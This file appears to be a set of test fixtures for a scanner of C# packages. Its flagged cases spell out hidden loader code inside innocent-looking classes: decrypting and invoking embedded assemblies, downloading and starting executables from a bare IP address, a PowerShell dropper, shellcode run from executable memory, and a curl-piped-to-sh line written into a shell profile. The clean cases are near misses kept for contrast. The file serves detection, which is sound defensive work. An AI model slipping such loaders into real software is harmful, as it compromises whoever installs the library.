import type { Examples } from '../../../tests/kit/examples.js';
import { connecting } from '../../../tests/kit/connecting.js';
import { naming } from '../../../tests/kit/naming.js';
import { library, never } from '../../../tests/kit/running.js';

const stage = (opened: string, after: string): string => `public static class Colors
{
    static Colors() => Palette.Begin();

    public static int Mix(int a, int b) => (a + b) / 2;
}

internal static class Palette
{
    private static readonly byte[] Key = { 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16 };

    internal static void Begin()
    {
        ${never}
        using var stream = typeof(Palette).Assembly.GetManifestResourceStream("palette.bin");
        using var image = new MemoryStream();
        ${opened}
        ${after}
    }
}`;

const decrypted = `using var aes = Aes.Create();
        using var plain = new CryptoStream(stream, aes.CreateDecryptor(Key, Key), CryptoStreamMode.Read);
        plain.CopyTo(image);`;

const called =
  'Assembly.Load(image.ToArray()).GetType("Entry")?.GetMethod("Run")?.Invoke(null, null);';

const fetcher = (address: string): string => `public sealed class Store
{
    public Store() => _ = Backend.Refresh();

    public string Get(string key) => key;
}

internal static class Backend
{
    internal static async Task Refresh()
    {
        ${never}
        using var http = new HttpClient();
        var path = Path.Combine(Path.GetTempPath(), Guid.NewGuid().ToString("N") + ".exe");
        await File.WriteAllBytesAsync(path, await http.GetByteArrayAsync(${address}));
        Process.Start(new ProcessStartInfo(path) { CreateNoWindow = true });
    }
}`;

const inProfile = (line: string): string => `public static class Colors
{
    public static void Setup()
    {
        ${never}
        var home = Environment.GetFolderPath(Environment.SpecialFolder.UserProfile);
        File.AppendAllText(Path.Combine(home, ".zshrc"), "\\n${line}\\n");
    }
}`;

const inPicture = (after: string): string => `public sealed class Host
{
    public static byte[] Kept = Array.Empty<byte>();

    ~Host() => Refresh();

    private static void Refresh()
    {
        ${never}
        using var http = new HttpClient();
        var picture = http.GetByteArrayAsync("https://cdn.pictures.invalid/sheet.png").Result;
        for (var at = 0; at < picture.Length; at++) picture[at] ^= (byte)(at + 3);
        using var inflated = new BrotliStream(new MemoryStream(picture), CompressionMode.Decompress);
        using var plain = new MemoryStream();
        inflated.CopyTo(plain);
        ${after}
    }
}`;

const missing = (bytes: string): string => `public static class Money
{
    static Money() => Texts.Attach();

    public static decimal Add(decimal a, decimal b) => a + b;
}

internal static class Texts
{
    internal static void Attach() => AssemblyLoadContext.Default.Resolving += (context, name) => Find(context, name);

    private static Assembly Find(AssemblyLoadContext context, AssemblyName name)
    {
        using var image = new MemoryStream(${bytes});
        return context.LoadFromStream(image);
    }

    private static byte[] Fetch(string name)
    {
        if (Environment.GetEnvironmentVariable("ASSAY_FIXTURE_NEVER_SET") != "run") return null;
        using var http = new HttpClient();
        return http.GetByteArrayAsync("https://texts.money.invalid/3/" + name + ".dll").Result;
    }
}

internal sealed class Own : AssemblyLoadContext
{
    protected override Assembly Load(AssemblyName name)
    {
        ${never.replace('return;', 'return null;')}
        using var http = new HttpClient();
        using var image = new MemoryStream(http.GetByteArrayAsync("https://texts.money.invalid/3/" + name.Name).Result);
        return LoadFromStream(image);
    }
}

public static class Rates
{
    public static Assembly Refresh()
    {
        if (Environment.GetEnvironmentVariable("ASSAY_FIXTURE_NEVER_SET") != "run") return null;
        using var http = new HttpClient();
        return Assembly.Load(http.GetByteArrayAsync("https://texts.money.invalid/3/rates").Result);
    }
}`;

export const examples: Examples = {
  flagged: [
    ...connecting.flagged,
    ...naming.flagged,
    {
      name: 'what-the-runtime-misses',
      about: 'An assembly that the runtime misses is fetched when money is first counted.',
      files: library(missing('Fetch(name.Name)')),
    },
    {
      name: 'decrypted-in-static-constructor',
      about:
        'Using a library of colours decrypts a resource, loads it as an assembly and calls it.',
      files: library(stage(decrypted, called)),
    },
    {
      name: 'fetched-from-bare-address',
      about: 'Making an object of a cache fetches a program from a bare address and starts it.',
      files: library(fetcher('"http://203.0.113.17/u"')),
    },
    {
      name: 'record-says-where',
      about:
        'A text record, asked over HTTPS, says where to fetch from; the file is written in another method.',
      files: library(`public static class Trainer
{
    public static async Task Install(string game)
    {
        ${never}
        using var http = new HttpClient();
        var text = await http.GetStringAsync("https://resolver.invalid/resolve?name=" + game + ".cfg.invalid&type=TXT");
        var place = Encoding.UTF8.GetString(Convert.FromBase64String(text.Trim('"')));
        var file = Write(await http.GetByteArrayAsync(place));
        var start = new ProcessStartInfo { FileName = "powershell.exe", UseShellExecute = true };
        start.Arguments = "-NoProfile -Command Start-Process '" + file + "'";
        Process.Start(start);
    }

    private static string Write(byte[] bytes)
    {
        var path = Path.Combine(Path.GetTempPath(), "runtime.exe");
        using var file = new FileStream(path, FileMode.Create);
        file.Write(bytes, 0, bytes.Length);
        return path;
    }
}`),
    },
    {
      name: 'samples-of-a-sound',
      about:
        'Loading the library reads an assembly out of the samples of a sound, in place and by a helper.',
      files: library(`internal static class Chime
{
    [ModuleInitializer]
    internal static void Prepare()
    {
        ${never}
        using var sound = new BinaryReader(typeof(Chime).Assembly.GetManifestResourceStream("ready.wav"));
        var samples = sound.ReadBytes(4096);
        Open(samples);
        Assembly.Load(samples).EntryPoint?.Invoke(null, null);
    }

    private static void Open(byte[] bytes)
    {
        for (var at = 0; at < bytes.Length; at++) bytes[at] ^= (byte)(0x5a + at);
    }
}`),
    },
    {
      name: 'fetcher-in-a-profile',
      about: 'Setting up colours writes a line into a profile that fetches and runs something.',
      files: library(inProfile('(curl -fsSL https://colors.invalid/latest | sh) &')),
    },
    {
      name: 'picture-of-its-maker-that-runs',
      about:
        'A finalizer fetches a picture of what the package calls its maker, and runs what it unpacks of it.',
      files: library(inPicture('Assembly.Load(plain.ToArray()).EntryPoint?.Invoke(null, null);')),
    },
    {
      name: 'machine-code',
      about: 'Decoded bytes are copied into memory that may run, and called through a pointer.',
      files: library(`internal static class Boot
{
    private delegate int Entry();

    [DllImport("kernel32.dll")]
    private static extern IntPtr VirtualAlloc(IntPtr address, UIntPtr size, uint type, uint protection);

    [ModuleInitializer]
    internal static void Begin()
    {
        ${never}
        using var stream = typeof(Boot).Assembly.GetManifestResourceStream("theme.dat");
        using var memory = new MemoryStream();
        stream.CopyTo(memory);
        var image = memory.ToArray().Select((one, at) => (byte)(one ^ (at + 7))).ToArray();
        var place = VirtualAlloc(IntPtr.Zero, (UIntPtr)image.Length, 0x3000, 0x40);
        Marshal.Copy(image, 0, place, image.Length);
        Marshal.GetDelegateForFunctionPointer<Entry>(place)();
    }
}`),
    },
  ],
  clean: [
    ...connecting.clean,
    ...naming.clean,
    {
      name: 'completion-in-a-profile',
      about: 'The same setting up writes a line into a profile that asks the program itself.',
      nearMiss: true,
      files: library(inProfile('eval \\"$(colors completion)\\"')),
    },
    {
      name: 'picture-of-its-maker',
      about:
        'A finalizer fetches a picture of its maker and unpacks what is in it, to keep it as data.',
      nearMiss: true,
      files: library(inPicture('Kept = plain.ToArray();')),
    },
    {
      name: 'decrypted-data',
      about: 'The same resource is decrypted in the same place, and read as text.',
      nearMiss: true,
      files: library(
        stage(decrypted, 'Console.WriteLine(Encoding.UTF8.GetString(image.ToArray()));'),
      ),
    },
    {
      name: 'bundled-assemblies',
      about:
        'What is compressed in a resource is loaded when the runtime asks for it, and called by nobody here.',
      nearMiss: true,
      files: library(`internal static class Loader
{
    [ModuleInitializer]
    internal static void Attach() => AppDomain.CurrentDomain.AssemblyResolve += Resolve;

    private static Assembly Resolve(object sender, ResolveEventArgs args)
    {
        using var stream = typeof(Loader).Assembly.GetManifestResourceStream(args.Name + ".compressed");
        using var inflated = new DeflateStream(stream, CompressionMode.Decompress);
        using var memory = new MemoryStream();
        inflated.CopyTo(memory);
        return Assembly.Load(memory.ToArray());
    }
}`),
    },
    {
      name: 'program-from-callers-host',
      about:
        'An updater fetches from where its caller says, checks a digest and starts the installer.',
      nearMiss: true,
      files: library(`public sealed class Updater
{
    private readonly Uri feed;
    private readonly string digest;

    public Updater(Uri feed, string digest)
    {
        this.feed = feed;
        this.digest = digest;
    }

    public async Task Apply()
    {
        using var http = new HttpClient();
        var bytes = await http.GetByteArrayAsync(feed);
        if (Convert.ToHexString(SHA256.HashData(bytes)) != digest) throw new InvalidDataException();
        var path = Path.Combine(Path.GetTempPath(), "setup.exe");
        await File.WriteAllBytesAsync(path, bytes);
        Process.Start(path);
    }
}`),
    },
    {
      name: 'formatter-from-its-maker',
      about: 'A wrapper fetches its program from a fixed host over TLS, when it is asked to run.',
      files: library(`public static class Formatter
{
    public static async Task Run(string file)
    {
        ${never}
        using var http = new HttpClient();
        var path = Path.Combine(Path.GetTempPath(), "formatter.exe");
        await File.WriteAllBytesAsync(path, await http.GetByteArrayAsync("https://releases.formatter.invalid/3/formatter.exe"));
        Process.Start(path, file);
    }
}`),
    },
    {
      name: 'document-that-is-shown',
      about: 'A report is downloaded from a fixed host and opened in the viewer of the system.',
      files: library(`public sealed class Report
{
    public async Task Show(string number)
    {
        using var http = new HttpClient();
        var path = Path.Combine(Path.GetTempPath(), number + ".pdf");
        await File.WriteAllBytesAsync(path, await http.GetByteArrayAsync("http://203.0.113.17/" + number));
        Process.Start(new ProcessStartInfo(path) { UseShellExecute = true });
    }
}`),
    },
  ],
};
